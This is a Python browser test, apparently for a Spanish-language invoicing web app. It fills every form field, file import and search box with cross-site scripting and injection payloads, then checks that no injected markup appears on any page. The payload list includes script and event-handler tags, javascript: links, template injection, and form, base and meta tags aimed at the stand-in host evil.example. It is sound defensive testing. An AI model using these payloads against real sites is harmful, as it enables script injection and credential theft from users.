"""Text that would be a program if a page forgot to escape it, typed into every field, and every page looked at afterwards.

Nothing may come of it: no dialog, no script error, no complaint of the policy, no request to another host, no element that the text
describes. Fields that refuse such text (an address, a number) say so and get a good one.
"""

import people
from walker import Lost
from watching import PATIENCE_MS, Watch, bare

TENANT = "factupronto"
VECTORS = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "javascript:alert(1)", "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "{{7*7}} ${7*7} <%=7*7%>", "<a href=\"//evil.example\" target=_blank>x</a>",
    "[x](javascript:alert(1))", "![x](x\"onerror=alert(1))", "<style>@import'//evil.example'</style>",
    "<form action=//evil.example><input name=password>", "<base href=//evil.example>", "<iframe srcdoc=alert(1)>",
    "factura\u202efdp.exe", "\"<img src=x onerror=alert(1)>\" <a@b>", "=?UTF-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
]
# What stands in a page only when a vector became markup.
GREW = """() => [...document.querySelectorAll(`script:not([src]), [onerror], [onload], [ontoggle], iframe, base, style,
    meta[http-equiv], form[action*='//evil'], img[src$='/x']`)].map((e) => e.outerHTML.slice(0, 80))
    .concat([...document.querySelectorAll('a[href]')].filter((a) => !/^(https?|mailto|tel):$/.test(a.protocol) || a.hostname === 'evil.example')
        .map((a) => a.href))"""
# Typed where a vector is refused.
GOOD = {
    "email": "nadie.{n}@evil.example", "companyEmail": "nadie@evil.example", "taxID": "{nit}", "postalCode": "760044",
    "companyPhone": "6028857766", "companyOtherPhone": "", "phone": "", "name": "Ana <b>{n}</b>", "timeZone": "", "organization": "",
    "idle": "480", "longest": "168", "passwordDays": "", "zone": "America/Mexico_City", "hue": "20", "current": "{password}",
    "address-": "55{n:08}", "day-": "9:00-18:00",
}
TEXTS = """form => [...form.elements].filter((e) => e.name && e.id && e.matches(
    'textarea, input:not([type=hidden],[type=checkbox],[type=radio],[type=file],[type=date],[type=range],[type=password])'))
    .map((e) => e.id)"""
MOST_PAGES = 120


class Typist:
    """Fills one form after the other, each field with the next vector."""

    def __init__(self, stage, walker, password=""):
        self.stage, self.walker, self.password = stage, walker, password
        self.count = 0

    def next(self):
        self.count += 1
        return VECTORS[(self.count - 1) % len(VECTORS)]

    def good(self, field):
        self.count += 1
        number = f"90{self.count:07}"
        return GOOD.get(field, GOOD.get(field.rstrip("0123456789"), "")).format(n=self.count, nit=nit(number), password=self.password)

    def send(self, path, button, picks=None, before=None):
        """The form of a page, until it is taken: what is refused is typed again as it should be."""
        walker, page = self.walker, self.walker.page
        walker.watch.expected.add(bare(walker.root + path))
        if path:
            page.goto(walker.root + path)
        form = page.locator("main form[method=post]").filter(has=page.get_by_role("button", name=button)).first
        form.evaluate("form => form.querySelectorAll('details').forEach((part) => { part.open = true })")
        for field in form.evaluate(TEXTS):
            page.fill(f"#{field}", self.next())
        for field, value in (picks or {}).items():
            page.select_option(f"#{field}", value)
        for _ in range(4):
            if before:
                before(page)
            with page.expect_navigation() as going:
                page.get_by_role("button", name=button).first.click()
            self.grew(page.url)
            if going.value.status != 422:
                return
            wrong = page.eval_on_selector_all("main [aria-invalid=true]", "all => all.map((e) => e.id)")
            for field in wrong:
                page.fill(f"#{field}", self.good(field))
        raise Lost(f"{path} is never taken: {page.locator('main .faults').inner_text()!r}")

    def grew(self, where):
        found = self.walker.page.evaluate(GREW)
        if found:
            raise Lost(f"{where} has grown {found}")


def nit(number):
    """A Colombian tax number with its check digit."""
    weights = [3, 7, 13, 17, 19, 23, 29, 37, 41, 43, 47, 53, 59, 67, 71]
    rest = sum(int(digit) * weight for digit, weight in zip(reversed(number), weights)) % 11
    return f"{number}-{rest if rest < 2 else 11 - rest}"


def type_everywhere(stage):
    """Every text field of the pages, as whoever may reach it."""
    stranger = Typist(stage, stage.walker(TENANT))
    stranger.walker.page.goto(f"{stranger.walker.root}/login?next=javascript:alert(1)//")
    stranger.grew("the log-in")
    stranger.send("/signup", "Continuar", {"country": "CO"})
    stranger.send("", "Crear cuenta")
    manager = stage.cast.of(TENANT, "manager")
    customer = Typist(stage, stage.walker(TENANT, manager), manager.password)
    customer.send("/profile", "Guardar")
    customer.send("/profile/identity", "Guardar pregunta", {"question": "own"}, secrets(manager.password))
    customer.send("/organization/people", "Enviar la invitación")
    login = stage.cast.of(TENANT, "admin")
    admin = Typist(stage, stage.walker(TENANT, login), login.password)
    for _ in VECTORS:
        admin.send("/organizations/1", "Guardar nota")
    admin.send("/admin/organizations/new", "Agregar", {"country": "CO"})
    admin.send("/admin/organizations/1/edit", "Guardar", {"country": "CO"})
    for _ in range(3):
        admin.send("/admin/people/new", "Enviar la invitación", {"role": "customer"})
    admin.send("/admin/people/8", "Guardar los cambios")
    admin.send("/profile", "Guardar")
    admin.send("/admin/settings/access", "Guardar cambios")
    channels = {"kind-0": "portal", "kind-1": "chat"} | {f"kind-{number}": "phone" for number in range(2, 6)}
    admin.send("/admin/settings/support", "Guardar cambios", channels)
    admin.send("/admin/settings", "Guardar cambios")
    files(admin)
    searches(admin)


def secrets(password):
    def fill(page):
        page.fill("#answer", VECTORS[1])
        page.fill("#current", password)

    return fill


def files(admin):
    """Names of files, of columns and what stands in the rows."""
    page, root = admin.walker.page, admin.walker.root
    rows = "".join(f'"{vector.replace(chr(34), chr(34) * 2)}",vector{index}@evil.example\n' for index, vector in enumerate(VECTORS))
    for path in ("/admin/people/import", "/admin/organizations/import"):
        for text in ("nombre,correo\n" + rows, f"{VECTORS[0]},{VECTORS[2]}\n" + rows):
            admin.walker.watch.expected.add(root + path)
            page.goto(root + path)
            name = "'><svg onload=alert(1)>.csv"
            page.set_input_files("#file", {"name": name, "mimeType": "text/csv", "buffer": text.encode()})
            with page.expect_navigation():
                page.get_by_role("button", name="Revisar el archivo").click()
            admin.grew(path)


def searches(admin):
    page = admin.walker.page
    for path, field in [
        ("/people", "q"), ("/organizations", "q"), ("/admin/mail", "q"), ("/admin/audit", "who"), ("/admin/audit", "company"),
        ("/admin/organizations/2/merge", "q"), ("/admin/organizations/2/distributor", "q"), ("/admin/settings/brand", "hue"),
    ]:
        # What is no number is a fault of the field.
        admin.walker.watch.expected.add(admin.walker.root + path)
        for vector in VECTORS[:3]:
            page.goto(admin.walker.root + path)
            page.fill(f"#{field}", vector)
            with page.expect_navigation():
                page.press(f"#{field}", "Enter")
            admin.grew(path)


def crawl(browser, base, cast, tally):
    """Every page that links lead to, as everybody: each answers, and none does what was typed."""
    for tenant in (TENANT, "proware", "seres"):
        for role in (None, "customer", "manager", "technician", "admin"):
            login = role and cast.of(tenant, role)
            tally.note(f"{tenant} {role or 'nobody'}: crawl", pages_of(browser, base, tenant, login))


def pages_of(browser, base, tenant, login):
    state = people.state_of(browser, base, login) if login else None
    context = browser.new_context(locale="es-MX", storage_state=state)
    context.set_default_timeout(PATIENCE_MS)
    page = context.new_page()
    watch = Watch(page, base)
    root = f"{base}/t/{tenant}/"
    waiting, seen = [root], {root}
    while waiting and len(seen) <= MOST_PAGES:
        address = waiting.pop(0)
        page.goto(address, wait_until="load")
        yield from (f"{address} has grown {element}" for element in page.evaluate(GREW))
        links = page.eval_on_selector_all("a[href]:not([download])", "all => all.map((a) => a.href.split('#')[0])")
        for link in links:
            # One page of each list and one language are enough.
            if link.startswith(root) and link not in seen and "lang=" not in link and "page=" not in link:
                seen.add(link)
                waiting.append(link)
    yield from watch.complaints
    context.close()
